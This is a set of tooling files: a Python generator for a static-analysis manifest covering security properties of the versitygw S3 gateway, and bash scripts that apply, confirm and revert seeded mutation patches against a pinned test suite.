         "Every AccessOptions literal carries Readonly<-c.readonly; every mutating backend call is behind a write-class decision carrying the switch; VerifyAccess and VerifyObjectCopyAccess test the switch before any root/admin shortcut and refuse exactly {WRITE, WRITE_ACP}; AclParser refuses bucket creation on the readonly edge; the flag is plumbed unchanged from cmd/versitygw through s3api.New, the router and controllers.New.",
         "The admin API is outside the property; the set of mutating backend methods (T-MUTATING) is a frozen table; behaviour of backends themselves under read-only is not examined (they are not called).",
         "DESIGN.md §4 C15"),
 "C19": ("cut-reachability on go/ssa CFGs + who-may-call + struct-literal obligations per success response + store-after-go aliasing analysis + value-origin slices",
         "SendEvent is reachable only on the err==nil edge of the two response helpers and is invoked nowhere else; every success response of an object-changing backend call carries the event sender, the event type tabled for that operation and (for created objects) the backend's ETag; event senders build per-event data per event (no store into memory already handed to a goroutine) and take batch keys from each decoded element; strings kept in the schema do not alias fiber's reused request buffers.",
         "Delivery, ordering and exactly-once under concurrency are not decided; DeleteObjects emits per requested key from the request body (recorded in DESIGN.md); T-EVENT is a frozen table. Two known findings (size 0 in copy / multipart-complete events).",
         "DESIGN.md §4 C19"),
 "C03": ("cut-reachability on go/ssa CFGs + value-origin slices over AccessOptions literals + route-table extraction",
         "Every backend.Backend call in every S3 handler is reachable only through the success edge of an access decision; each decision literal names this request's ACL/account/bucket/key, uses an action and permission admissible for the guarded backend method (frozen T-ACTION table), batch delete is decided per key, copy checks source and destination, VerifyAccess has no unconditional allow, admin routes sit behind IsAdmin, ListBuckets filters by owner.",
         "Does not decide that a given policy/ACL yields the right verdict (C14 covers the tables) nor the HTTP status; T-ACTION is a hand-frozen oracle; SSA/type information trusted.",
         "DESIGN.md §4 C03"),
}

# Additions after the unseen batches 3 and 4 (DESIGN.md §5.2, §5.3): (technique suffix, decided suffix)
ADD5 = {'C01': ('who-may-call rule for os.Link/os.Symlink', 'no backend function hard-links or symlinks one key (or version) to another.'), 'C03': ("loop-position rule for the evaluator's allowing result; failure-closure (assume-failed reachability) of the per-key check in DeleteObjects", 'the evaluator returns an allowing result only after its statement loop, matcher loops return only the positive verdict from inside; once VerifyAccess refused a key of a batch the backend DeleteObjects is unreachable.'), 'C05': ('temp-directory origin rule for every openTmpFile; no package-level state on the request path', 'every temp file is created under the pruned temp directory; no package-level map, sync.Map or copy buffer is written on the request path.'), 'C07': ('page-full guard rule for fs.SkipAll; zone proof for narrowing conversions of parsed numbers', 'the walk ends early only behind the page-full test; max-keys is narrowed to int32 only where it is proven to fit.'), 'C08': ('produced-after rule (no part-list refusal after MkdirAll); operator rule for the part-order test', "no refusal of the part list is produced after the key's parent directories were created; a part number equal to its predecessor is refused."), 'C09': ('who-may-call rule for os.Link/os.Symlink (shared with C01)', 'a saved version is never a hard link to the object it saves.'), 'C10': ('same-target rule for the lock lookups; no package-level state in auth', 'GetObjectLegalHold/GetObjectRetention look only at the version the version id resolved to; no lock verdict is memoised per process.'), 'C11': ('temp-directory origin rule for every openTmpFile', 'unfinished files are created only under the pruned temp directory.'), 'C12': ('no package-level state in s3api/utils', 'no signing key or buffer is kept in package-level state between uploads.'), 'C14': ('loop-position rules shared with C03', 'same as C03: order of statements and map iteration order do not decide.'), 'C15': ('reads-do-not-write rule over the non-mutating rows of the operation table', 'no Get*/Head*/List* method of the posix backend reaches an attribute store/delete or a file removal, rename or creation.'), 'C17': ('no package-level state on the request path; constructor-only assignment of the cache map', "no per-process memo of request-dependent facts; the cache's map is never swapped for a copy."), 'C18': ('failure-closure of the upstream CreateBucket before PutBucketTagging', 'the ACL tag is written only onto a bucket this request created.'), 'C19': ('no-normalisation origin rule for the event key; not-in-a-loop rule for the delivery call', 'the notification names the key as requested; each event is delivered by a single attempt.'), 'C20': ('zone proof for narrowing conversions; result-pointer agreement between controllers and the posix backend; no unsynchronised package-level maps; non-nil bottom of the body-reader chain', 'the request body stream is the source of the reader chain only where it is known non-nil (fix 0dbe61a); a parsed number is narrowed only when it fits; every result field a controller dereferences unguarded is set in every result the posix backend returns on that path.'), 'C02': ('no package-level state (signing-key caches) and reader-chain rule', 'no key material is memoised per process.')}

# Additions after the unseen batch 6 (DESIGN.md §5.6)
ADD6 = {
 'C01': ('multipart ETag suffix rule shared with C08; every-origin form of the ETag provenance rule', 'the ETag suffix of a completed object is the number of listed parts; the stored ETag has no origin other than the digest of the copied bytes on any path.'),
 'C02': ('signer-per-request rule; attribute stores count as effects when a metadata store ignores the descriptor', 'every signer that recomputes a request signature is created in the verifying function (or its derived-key cache compares the secret); in PutObject/UploadPart no attribute store precedes the end of the body when some MetadataStorer addresses attributes by name (sidecar).'),
 'C03': ('leaf-behind-edge rule for sibling actions', 'where a decision chooses between an action and its ...Version sibling the plain action is used only on the versionId == "" edge.'),
 'C04': ('same-value rule in the parent-pruning loop', 'removeParents removes the directory whose etag marker it looked up.'),
 'C05': ('opened-before-return rule for the GET body', 'every non-nil Body of a posix.GetObject result is built on a file opened by os.Open inside GetObject.'),
 'C07': ('must-pass rule for the page size', 'once MaxKeys is known to be set every path to Walk/WalkVersions passes the assignment of *MaxKeys (no value, 0 included, is replaced by a default).'),
 'C08': ('every-origin form of the ETag provenance rule (shared with C01)', 'the part ETag stored by UploadPart/UploadPartCopy has no origin other than the MD5 of the copied bytes.'),
 'C09': ('result-consumption rule for the per-key callback of WalkVersions', 'every list (ObjectVersions, DelMarkers) of every callback result is read.'),
 'C10': ('must-pass rule for the legal-hold lookup; same-list rule for the batch lock check', 'no path from an object\'s retention lookup to the next object or the nil return avoids GetObjectLegalHold other than the NoSuchKey edge; CheckObjectAccess in DeleteObjects receives the decoded list that is handed to the backend.'),
 'C11': ('recursive-removal scope rule for DeleteBucket; os.Truncate added to the in-place write list', 'DeleteBucket removes the bucket or its whole temp directory recursively; no object is truncated in place.'),
 'C12': ('stale-tail rule for buffers shifted in place', 'after copy(x, x[k:]) in a chunk reader no call receives x at its old length (fix c4f3cd0).'),
 'C13': ('who-may-produce rule for InvalidRange', 'the front end never produces InvalidRange itself.'),
 'C14': ('every-iteration rule for the resource matcher', 'each resource pattern of a statement reaches Resources.Match; no test on the pattern text skips it.'),
 'C17': ('signer-per-request rule (shared with C02); written-back rule for updateAcc', 'a changed secret is used by the very next verification; the copy modified by updateAcc is stored (map element or storing call) before every success return.'),
 'C18': ('codec agreement rule for the ACL tag; input-lists-untouched rule', 'the ACL tag is decoded with the base64 alphabet it is encoded with; no S3Proxy method sorts, reverses or writes into a list of its input.'),
 'C19': ('same-cell rule for the event size', 'the ObjectSize of PutObject\'s success response is the length handed to the backend.'),
 'C20': ('dropped-error rule inside unbounded retry loops; sort-callback and boolean-guard idioms proved for the bounds-check census', 'no file-system call inside an unbounded retry loop of the back ends has its error dropped.'),
}

# Additions after the unseen batch 7 (DESIGN.md §5.7)
ADD7 = {
 'C01': ('cut-set rule for strings.Trim*; reserved-directory rule for the sidecar store; pruning-has-no-other-effect rule', 'no Trim/TrimLeft/TrimRight with a word as cut set strips attribute or key names; every SideCar method addresses <object>/meta; removeParents removes only the empty directory it examined.'),
 'C02': ('confirmed-only rule for the IAM cache; never-nil rule for the upload body', 'the account cache is written only after the service confirmed the account and answers only with the service\'s errors; the Body handed to PutObject/UploadPart is never nil on any path.'),
 'C03': ('no-removal-before-store rule for the policy attribute', 'PutBucketPolicy overwrites the policy attribute in place, never removes it first.'),
 'C04': ('pruning-has-no-other-effect rule; reserved-directory rule for the sidecar store', 'removeParents has no effect other than removing the probed empty directory; SideCar methods never address an object\'s own directory.'),
 'C05': ('constructors-remove-nothing rule', 'posix.New / scoutfs.New reach no removal, rename or truncation.'),
 'C08': ('every-return form of the ETag suffix rule', 'every way GetMultipartMD5 returns carries the number of parts.'),
 'C09': ('constructor rule for version ids; saved-before-marker rule under Enabled versioning', 'version ids come from ulid.Make only; in an Enabled bucket the delete marker is stored only after createObjVersion.'),
 'C10': ('pruning-has-no-other-effect rule (shared with C04)', 'a directory object under legal hold is not removed by the clean-up after deleting a key below it.'),
 'C11': ('constructors-remove-nothing rule; who-may-call rule for os.CreateTemp', 'a restart removes nothing; temp files are made by the temp-file openers only.'),
 'C13': ('streamed-whole rule for the response body; unparsed-offset rule for the range parsers', 'StreamResponseBody never reads the body itself; range offsets are results of strconv.ParseInt(s, 10, 64).'),
 'C14': ('no-removal-before-store rule (shared with C03)', 'a policy update never passes through no policy.'),
 'C15': ('allowing-return rule extended to verdicts handed back', 'a verdict of another decision (policy, ACL) returned as it is counts as an allowing return and must lie behind the read-only test.'),
 'C16': ('role-comparison rule for IsAdmin; bucket-seen rule before directory creation', 'IsAdmin is account.Role == RoleAdmin; every posix method that creates directories below a bucket first stats the bucket.'),
 'C17': ('confirmed-only rule for the IAM cache (shared with C02); pointer-receiver rule for lock-holding types', 'no negative caching; no method of a lock-holding type of package auth has a value receiver.'),
 'C18': ('status-relay rule for handleError; own-operation-first rule', 'handleError stores only the endpoint\'s status; no other mutating endpoint call precedes the forwarded operation of the method\'s own name.'),
 'C19': ('second-decoding clause of the verbatim-key rule; result-field rule for the event version', 'the event key is not decoded twice; an event\'s VersionId taken from a backend result is the result\'s VersionId field.'),
 'C20': ('nil-test rule for optional numeric fields in auth', 'every dereference of an optional *int32/*int64 field in package auth lies behind a nil test of that field.'),
}

ADD = {
 "C01": ("hash-provenance rule (md5.New -> TeeReader -> copy -> Sum order), drain-before-Sum rule for HashReader, store/delete ordering rule, map-rooted-at-backend rule",
         "the stored ETag is hex(Sum()) of an md5 hash that is the TeeReader writer of the copied stream, finalised after the copy; a HashReader's Sum() is taken only after it was copied to its end; in-place metadata replacement deletes before it stores; no per-process maps hang off the backend struct."),
 "C02": ("E-TIME direction rules for expiry and clock skew; no-map rule for the rebuilt request; map-of-struct write-back rule in the IAM cache; reader-chain rule on the body-reader context local",
         "a presigned URL is refused as expired only on the edge now > date+expires and the request date is refused on both sides of the skew window; the request rebuilt for verification collects query arguments in no map; the IAM cache stores an updated account back; every reader a middleware stores as body reader is built on the reader read from that same local (the deferred signature check is never discarded)."),
 "C03": ("table agreement Effect.Validate vs evaluator; policy-decides-alone rule in VerifyAccess; trailing-* guard for prefix matching",
         "with a policy present VerifyAccess returns VerifyBucketPolicy's verdict unchanged and never reaches the ACL check; Validate accepts exactly the effects the evaluator knows."),
 "C04": ("substring-ancestry rule (each returned piece is cut out of a validated value)",
         "every string ParseCopySource returns is cut out of a value that itself went through IsOpaquePath/IsOpaqueId."),
 "C05": ("helper forwarding of the temp-file descriptor; no-removal-before-link rule in uploading publishers; exclusive-create flag rule over all backend packages",
         "helpers forwarding a *os.File to StoreAttribute obey the same before/after-link rules; no removal of the destination or its versions before the body was received; every writing os.OpenFile creates with O_EXCL and never truncates."),
 "C11": ("same additions as C05 + delete ordering (data before metadata) + directory-entry rule for upload listing",
         "DeleteObject removes metadata only after the data; ListMultipartUploads lists directory entries only; the C05 additions."),
 "C06": ("checksum-table completeness against the input struct's fields (PutObject, UploadPart); chunk-reader end-of-stream rules imported from C12; drain-before-Sum; reader-chain rule",
         "both checksum tables have a row for every Checksum<ALG> input field paired with its own hash type; C12's end-of-stream and signature rules hold for the readers uploads pass through; the MD5/auth/chunk readers are chained, none replaces the others."),
 "C07": ("must-cut rules on every append of the walk callbacks (prefix, marker); skipdirs test on the walk root; versioning-independence of the delete-marker filter",
         "every appended key passed a prefix test and a marker test (files and explicit directory objects, Walk and WalkVersions); a walk root derived from the prefix is tested against skipdirs; the delete-marker filter does not depend on the versioning status."),
 "C08": ("sibling cross-check of the scoutfs completion; exemption-by-position rule",
         "the scoutfs CompleteMultipartUpload passes the same validation/cleanup/part-selection rules; the minimum-size exemption is by list position."),
 "C09": ("attribute-copy completeness of createObjVersion; preallocation-size origin rule",
         "the version copy stores every attribute it read and is preallocated with the size of the existing object's stat."),
 "C10": ("E-TIME direction rules for retain-until comparisons; loop-exit rule; same-target rule; named-error-code rule",
         "retention blocks while retain-until > now and past dates are refused (direction only); no allow verdict from inside the per-object loop; the judged retention is read from the object that is written; lookup errors are tolerated only for NoSuchKey / NoSuchObjectLockConfiguration."),
 "C12": ("interprocedural raw-io.EOF summary over repository callees; verdict closure for the unsigned trailer; reader-chain rule",
         "a Read method never returns the error of a helper that can carry the inner stream's io.EOF unmapped; the unsigned reader's io.EOF lies behind the accepting edge of the comparison of hash.Hash.Sum with the announced checksum wherever Read and its helpers make it; the chunk reader is installed on top of the installed body reader."),
 "C13": ("ownership rule for the file behind a ranged body",
         "FileSectionReadCloser's methods use the file for Close only."),
 "C14": ("policy-decides-alone rule shared with C03; Effect table agreement",
         "Validate accepts exactly the effects isAllowed switches on; VerifyAccess hands back the policy verdict unchanged."),
 "C15": ("who-may-call rule over the middleware package",
         "no middleware calls a mutating backend method."),
 "C16": ("result-origin rule for the ListBuckets token; independence of the grantee append from the account cache",
         "the ListBuckets continuation token is read back from the result list; UpdateACL appends every grant of the request."),
 "C17": ("failure-edge must-pass rule for the store rollback; callback return rule; map write-back rule; E-TIME direction of cache expiry",
         "a refused or failed update rewrites the store with the data read; callbacks never return (nil, nil); cache updates are stored back and only for existing entries; a cached account is served only while exp > now."),
 "C18": ("result-field forwarding from same-named SDK output fields; named-error-code rule for the swallowed ACL errors; nil-only-when-empty rule; frozen client configuration",
         "result fields come from the same-named SDK output field; GetBucketAcl swallows only NoSuchTagSet/NotImplemented; an input field is dropped only when itself empty; the SDK http.Client has no Timeout."),
 "C19": ("exhaustiveness of multi-way EventType comparisons; connection-cap/close pairing for the webhook",
         "a switch over event types names them all; the webhook transport has no connection cap while responses are left open."),
 "C20": ("comma-ok rule for Locals in loggers/response helpers; nilable-helper dereference rule; read-lock/write-lock upgrade rule; store rollback rule shared with C17",
         "audit loggers read Locals comma-ok; results of helpers that can return nil are nil-tested before dereference; no write-locking method is called under the read lock of the same mutex."),
}

NOT_YET = "check for this property is not implemented yet in this snapshot of /verif (work in progress; see DESIGN.md §4 for the planned static rules)"

NA = {}

def main():
    props = [json.loads(l) for l in open('/verif/properties.jsonl')]
    checks = []
    na = []
    for p in props:
        pid = p['id']
        if pid in CLAIMS:
            tech, decided, notdecided, ref = CLAIMS[pid]
            if pid in ADD:
                tech = tech + "; added after unseen batches: " + ADD[pid][0]
                decided = decided + " Added after unseen batches (DESIGN.md 5.2/5.3): " + ADD[pid][1]
            if pid in ADD5:
                tech = tech + "; added after unseen batch 5: " + ADD5[pid][0]
                decided = decided + " Added after unseen batch 5 (DESIGN.md 5.5): " + ADD5[pid][1]
            if pid in ADD6:
                tech = tech + "; added after unseen batch 6: " + ADD6[pid][0]
                decided = decided + " Added after unseen batch 6 (DESIGN.md 5.6): " + ADD6[pid][1]
            if pid in ADD7:
                tech = tech + "; added after unseen batch 7: " + ADD7[pid][0]
                decided = decided + " Added after unseen batch 7 (DESIGN.md 5.7): " + ADD7[pid][1]
            checks.append({
                "property_id": pid,
                "quick_cmd": f"/verif/bin/vgwsa check -prop {pid} -tier quick",
                "thorough_cmd": f"/verif/bin/vgwsa check -prop {pid} -tier thorough",
                "evidence_file": f"/verif/evidence/{pid}.json",
                "replay_cmd_template": f"/verif/bin/vgwsa replay -prop {pid}  # re-evaluates the rules on the current tree and prints the violating constructs listed in {{path}}",
                "engine": "vgwsa",
                "level_claimed": {
                    "category": "other",
                    "text": "Static conformance to repository-specific rules that are structural NECESSARY conditions of the property (the behaviour itself is not decided). Decided: " + decided,
                    "design_ref": ref,
                },
                "level_note": notdecided,
                "technique": "static analysis: " + tech,
            })
        else:
            na.append({"property_id": pid, "reason": NA.get(pid, NOT_YET)})
    m = {
        "version": 1,
        "setup_cmd": f"cd /verif/sa && env {ENV} go build -o /verif/bin/vgwsa . && cd /repo && env {ENV} go build ./... ",
        "hooks": {
            "guard": "verif",
            "enable": "none needed: the checks read source; no file in /repo carries the tag",
            "baseline_off_cmd": "cd /repo && go test -mod=mod -json -vet=off -count=1 -timeout 25m ./...",
            "source_commits": [],
            "add_only": True,
        },
        "engines": [{
            "name": "vgwsa",
            "path": "/verif/sa",
            "serves_properties": sorted(CLAIMS),
            "kind_free_text": "repository-specific static analyser (go/packages + go/types + go/ssa, x/tools v0.29.0): cut-reachability guard rules, value-origin slices, route/table extraction, who-may-call, reader typestate, zone abstract interpretation of loop-free integer code (E-ZONE), clock-comparison normal forms (E-TIME), compiler bounds-check listing; the SSA is first normalised by inlining same-package helpers that no rule names, and renamed functions/fields/parameters/tables are relocated by fingerprint against a reference table (rules are indifferent to extract-function and rename refactorings); loads /repo's working tree on every run",
        }],
        "checks": checks,
        "not_applicable": na,
        "notes": "All checks are static (no versitygw code is executed). Known findings: /verif/known_findings.txt. Negative controls (overlay edits) run in the thorough tier and via `vgwsa selftest`.",
    }
    json.dump(m, open('/verif/MANIFEST.json', 'w'), indent=1)
    print("claimed", len(checks), "not_applicable", len(na))

if __name__ == '__main__':
    main()
