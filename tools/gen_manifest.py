#!/usr/bin/env python3
"""Generates /verif/MANIFEST.json from the table below (kept next to the checker so the
manifest never drifts from what vgwsa implements)."""
import json, sys

ENV = "GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local GOWORK=off"

# property id -> (technique, what is decided, what is not decided / trusted base, design ref)
CLAIMS = {
 "C02": ("route-table extraction + cut-reachability on go/ssa CFGs of the auth middlewares, deferred-authentication (BIG) atom extraction and handler reachability, drain-before-effect cut rule in the posix backend, literal-EOF typestate on the reader layers",
         "Both auth middlewares (and DecodeURL, MD5, ACL) are registered before every route; every ctx.Next() of the auth middlewares lies behind a signature verdict, the deferred branch that installs the auth reader, or a frozen shortcut, and account/date/expiry/chunk-reader errors fail closed; every handler a deferred-authentication request can reach calls only PutObject/UploadPart with the deferred reader as Body on paths not excluded by IsBigDataAction's own atoms; posix PutObject/UploadPart perform persistent effects only after an io.Copy/io.ReadAll read the Body to its end through EOF-transparent wrappers; auth readers pass the inner EOF only after the check succeeded and chunk readers return a literal io.EOF only after the inner reader reached its end.",
         "Does not decide that the SigV4 computation itself is right (signer unit tests), date arithmetic or canonicalisation; fiber routing facts (route patterns, trailing slash) are trusted as probed; s3proxy/azure are assumed to read Body to EOF inside the SDK. One known finding (version copy before the verdict).",
         "DESIGN.md §4 C02"),
 "C04": ("who-may-call layering over all packages + value-origin slices from request accessors to backend path slots + validator shape and cut rules + route-table order",
         "Filesystem functions are called only from the frozen owner packages; every client string that controllers/middlewares hand to a backend path slot (bucket, key, versionId, uploadId, copy source, batch keys) originates only from accessors validated by DecodeURL, from the copy-source header validated in ParseCopySource, or from a decoded list validated element-wise; DecodeURL validates the decoded path and id queries, fails closed, and hands the router exactly the validated value; the validators reject '.'/'..'/separators and ParseCopySource returns only substrings of what it validated.",
         "Kernel behaviour on odd names (NUL, length), symlink races and bucketlinks are not decided; the posix backend's own use of its parameters is trusted to stay within the slots listed in T-PATHSLOT; the validator check is a shape/necessary-condition check, not a proof of the predicate.",
         "DESIGN.md §4 C04"),
 "C13": ("value-origin slices on go/ssa (parser results to section reader, Content-Length, Content-Range) + cut-reachability + condition-origin analysis of the 206 decision",
         "In posix.GetObject the body window, Content-Length and Content-Range all come from one ParseGetObjectRange call applied to the stat size and the request Range, Content-Range only on the isValid edge, the object is opened only after the parser accepted, and a 416 is returned; in GetActions the 206 status depends on the backend result's ContentRange and on no request accessor, and body/length/Content-Range are emitted from the backend result.",
         "The numeric correctness of ParseGetObjectRange (interval arithmetic, clipping, off-by-one) is value-level and NOT decided; scoutfs reuses posix.GetObject; azure/s3proxy range handling is remote.",
         "DESIGN.md §4 C13"),
 "C14": ("table agreement over package-level constants and composite literals + cut-reachability/fail-closed rules on the validation chain + evaluation-shape rules on isAllowed/findMatch",
         "Every action constant is grantable by name, the object-action list is a subset and agrees with the operation table, every action the gateway decides with is in the supported list; a policy is stored only after ValidatePolicyDocument succeeded on the same bytes and bucket, the validation chain reaches Effect/Principals/Resources/Action validation and swallows no failure, empty statement lists and action/resource kind mismatches are refused; isAllowed yields true only on a matching Allow and a matching Deny returns false at once; findMatch is the conjunction of the three matchers; VerifyBucketPolicy denies unless isAllowed.",
         "The glob matcher (Resources.Match), wildcard action matching and JSON shape handling are value-level and not decided; an equivalent rewrite of the deny fold into a different control shape would need the rule to be re-stated.",
         "DESIGN.md §4 C14"),
 "C17": ("must-hold lock rule (must-pass + no-release-between) on go/ssa + closure-capture origins + cut-reachability write-through order + struct-literal completeness",
         "Every storeIAM call holds the write lock and every store read a read lock; the update closure handed to storeIAM captures only method parameters and parses the data it is given (read-modify-write inside the lock); the store is replaced by temp-file+rename and failures are reported; IAMCache mutates the cache only after the service acknowledged, returns service failures, and cached copies carry all Account fields; accounts.getAccount asks the IAM service for every non-root key and is the only producer of Locals(account).",
         "Histories and interleavings are not decided; external IAM services (ldap, vault, ipa, s3) are not examined; two known findings (cache insert after service call without a spanning lock).",
         "DESIGN.md §4 C17"),
 "C10": ("cut-reachability on go/ssa CFGs (controllers, auth.CheckObjectAccess, posix retention/versioning) + value-origin slices",
         "Every destructive backend call in the S3 handlers (PutObject, CopyObject, CompleteMultipartUpload, DeleteObject, DeleteObjects) is reachable only through the success edge of auth.CheckObjectAccess taken for the same bucket and keys; CheckObjectAccess fails closed on legal hold, COMPLIANCE and GOVERNANCE-without-bypass edges and examines every listed object; posix.PutObjectRetention cannot overwrite a stored COMPLIANCE retention and a GOVERNANCE one only through the bypass edge; versioning cannot be suspended when an enabled lock configuration exists; the bypass flag derives from the request header / the bypass policy verdict.",
         "Does not decide date arithmetic, sequences of requests, or storage-level bypasses; ParseBucketLockConfigurationInput value handling is out of reach. One known finding (CompleteMultipartUpload has no lock check).",
         "DESIGN.md §4 C10"),
 "C15": ("struct-literal field origins + cut-reachability on go/ssa CFGs + parameter plumbing origins",
         "Every AccessOptions literal carries Readonly<-c.readonly; every mutating backend call is behind a write-class decision carrying the switch; VerifyAccess and VerifyObjectCopyAccess test the switch before any root/admin shortcut and refuse exactly {WRITE, WRITE_ACP}; AclParser refuses bucket creation on the readonly edge; the flag is plumbed unchanged from cmd/versitygw through s3api.New, the router and controllers.New.",
         "The admin API is outside the property; the set of mutating backend methods (T-MUTATING) is a frozen table; behaviour of backends themselves under read-only is not examined (they are not called).",
         "DESIGN.md §4 C15"),
 "C19": ("cut-reachability on go/ssa CFGs + who-may-call + struct-literal obligations per success response + store-after-go aliasing analysis + value-origin slices",
         "SendEvent is reachable only on the err==nil edge of the two response helpers and is invoked nowhere else; every success response of an object-changing backend call carries the event sender, the event type tabled for that operation and (for created objects) the backend's ETag; event senders build per-event data per event (no store into memory already handed to a goroutine) and take batch keys from each decoded element; strings kept in the schema do not alias fiber's reused request buffers.",
         "Delivery, ordering and exactly-once under concurrency are not decided; DeleteObjects emits per requested key from the request body (recorded in DESIGN.md); T-EVENT is a frozen table. Two known findings (size 0 in copy / multipart-complete events).",
         "DESIGN.md §4 C19"),
 "C03": ("cut-reachability on go/ssa CFGs + value-origin slices over AccessOptions literals + route-table extraction",
         "Every backend.Backend call in every S3 handler is reachable only through the success edge of an access decision; each decision literal names this request's ACL/account/bucket/key, uses an action and permission admissible for the guarded backend method (frozen T-ACTION table), batch delete is decided per key, copy checks source and destination, VerifyAccess has no unconditional allow, admin routes sit behind IsAdmin, ListBuckets filters by owner.",
         "Does not decide that a given policy/ACL yields the right verdict (C14 covers the tables) nor the HTTP status; T-ACTION is a hand-frozen oracle; SSA/type information trusted.",
         "DESIGN.md §4 C03"),
}

NOT_YET = "check for this property is not implemented yet in this snapshot of /verif (work in progress; see DESIGN.md §4 for the planned static rules)"

NA = {}

def main():
    props = [json.loads(l) for l in open('/verif/properties.jsonl')]
    checks = []
    na = []
    for p in props:
        pid = p['id']
        if pid in CLAIMS:
            tech, decided, notdecided, ref = CLAIMS[pid]
            checks.append({
                "property_id": pid,
                "quick_cmd": f"/verif/bin/vgwsa check -prop {pid} -tier quick",
                "thorough_cmd": f"/verif/bin/vgwsa check -prop {pid} -tier thorough",
                "evidence_file": f"/verif/evidence/{pid}.json",
                "replay_cmd_template": f"/verif/bin/vgwsa replay -prop {pid}  # re-evaluates the rules on the current tree and prints the violating constructs listed in {{path}}",
                "engine": "vgwsa",
                "level_claimed": {
                    "category": "other",
                    "text": "Static conformance to repository-specific rules that are structural NECESSARY conditions of the property (the behaviour itself is not decided). Decided: " + decided,
                    "design_ref": ref,
                },
                "level_note": notdecided,
                "technique": "static analysis: " + tech,
            })
        else:
            na.append({"property_id": pid, "reason": NA.get(pid, NOT_YET)})
    m = {
        "version": 1,
        "setup_cmd": f"cd /verif/sa && env {ENV} go build -o /verif/bin/vgwsa . && cd /repo && env {ENV} go build ./... ",
        "hooks": {
            "guard": "verif",
            "enable": "none needed: the checks read source; no file in /repo carries the tag",
            "baseline_off_cmd": "cd /repo && go test -mod=mod -json -vet=off -count=1 -timeout 25m ./...",
            "source_commits": [],
            "add_only": True,
        },
        "engines": [{
            "name": "vgwsa",
            "path": "/verif/sa",
            "serves_properties": sorted(CLAIMS),
            "kind_free_text": "repository-specific static analyser (go/packages + go/types + go/ssa, x/tools v0.29.0): cut-reachability guard rules, value-origin slices, route/table extraction, who-may-call; loads /repo's working tree on every run",
        }],
        "checks": checks,
        "not_applicable": na,
        "notes": "All checks are static (no versitygw code is executed). Known findings: /verif/known_findings.txt. Negative controls (overlay edits) run in the thorough tier and via `vgwsa selftest`.",
    }
    json.dump(m, open('/verif/MANIFEST.json', 'w'), indent=1)
    print("claimed", len(checks), "not_applicable", len(na))

if __name__ == '__main__':
    main()
