#!/bin/bash
# run_mut.sh <seeded dir name> [props]  : applies the seeded patch to /repo, runs the checks, reverts.
D=/verif/seeded/$1; PROPS=${2:-all}
cd /repo && git diff --quiet || { echo "/repo not clean"; exit 2; }
git -C /repo apply $D/patch.diff || { echo "patch does not apply to /repo"; exit 2; }
/verif/bin/vgwsa check -prop $PROPS -no-evidence 2>&1 | grep -E "^violation|^VIOLATION|BROKEN|^summary" | cut -c1-400
git -C /repo checkout -- .
