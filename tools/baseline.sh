#!/bin/bash
# Runs the pinned baseline suite on /repo (or $1) and compares with /root/.vp/BASELINE.json.
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local; unset GOWORK
D=${1:-/repo}
cd $D && go test -mod=mod -json -vet=off -count=1 -timeout 25m ./... > /tmp/baseline.$$.json 2>/dev/null
python3 - /tmp/baseline.$$.json <<'PY'
import json,sys
want=set(json.load(open('/root/.vp/BASELINE.json'))['stable_pass'])
got=set()
fail=set()
for l in open(sys.argv[1]):
    try: e=json.loads(l)
    except: continue
    if e.get('Test') and e.get('Action') in('pass','fail'):
        (got if e['Action']=='pass' else fail).add(e['Package']+'::'+e['Test'])
missing=sorted(want-got)
print('baseline: want',len(want),'passed',len(want&got),'missing',len(missing))
for m in missing[:20]: print('  MISSING',m)
sys.exit(1 if missing else 0)
PY
rc=$?; rm -f /tmp/baseline.$$.json; rm -rf $D/cmd/versitygw/tempdir; exit $rc
