#!/bin/bash
# confirm_mut.sh <PROP> <mutX> <in-repo demo dir>   e.g. C03 mutA auth
# Confirms a seeded change in the scratch worktree /tmp/wt-<PROP>: compiles, pinned suite passes,
# demo fails with the change and passes without it. Then stores it under /verif/seeded/<PROP>-<mutX>/.
set -u
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local; unset GOWORK
P=$1; M=$2; DDIR=$3
WT=/tmp/wt-$P; SRC=/tmp/mut-$P/$M
DEMO=$(ls $SRC/zz_demo_*_test.go | head -1)
cd $WT || exit 2
git checkout -q -- . ; git clean -fdq -e nothing >/dev/null 2>&1
cp $DEMO $WT/$DDIR/ || exit 2
DN=$(basename $DEMO)
echo "== demo WITHOUT change"; go test -vet=off -count=1 -run 'Demo|demo|Mut|mut' ./$DDIR/ 2>&1 | tail -3; R0=${PIPESTATUS[0]}
git apply $SRC/patch.diff || { echo "patch does not apply"; exit 2; }
echo "== build"; go build ./... || { echo BUILD-FAIL; exit 2; }
echo "== demo WITH change"; go test -vet=off -count=1 -run 'Demo|demo|Mut|mut' ./$DDIR/ 2>&1 | tail -5; R1=${PIPESTATUS[0]}
rm -f $WT/$DDIR/$DN
echo "== pinned suite with change"; /verif/tools/baseline.sh $WT; R2=$?
git checkout -q -- . ; rm -rf $WT/cmd/versitygw/tempdir
echo "RESULT without=$R0 (want 0) with=$R1 (want !=0) suite=$R2 (want 0)"
if [ $R0 -eq 0 ] && [ $R1 -ne 0 ] && [ $R2 -eq 0 ]; then
  D=/verif/seeded/$P-$M; mkdir -p $D; cp $SRC/patch.diff $D/; cp $DEMO $D/; [ -f $SRC/README.md ] && cp $SRC/README.md $D/
  echo "$DDIR/$DN" > $D/demo_path.txt
  echo CONFIRMED $D
else echo NOT-CONFIRMED; exit 1; fi
