#!/bin/bash
# batch_confirm.sh <suffixes e.g. "mutC mutD"> : confirm every /tmp/mut-Cxx/<suffix> that exists and is not yet stored
for P in $(seq -w 1 20); do for M in $1; do
  S=/tmp/mut-C$P/$M; [ -f $S/patch.diff ] || continue; [ -d /verif/seeded/C$P-$M ] && continue
  DEMO=$(ls $S/zz_demo_*_test.go 2>/dev/null | head -1); [ -n "$DEMO" ] || { echo "C$P $M: no demo"; continue; }
  DIR=$(grep -ohE "[a-z0-9/_]+/zz_demo_${M}_test\.go" $S/README.md | grep -v "^/tmp" | head -1 | xargs -r dirname)
  [ -n "$DIR" ] || DIR=$(grep -m1 "^package " $DEMO | awk '{print $2}')
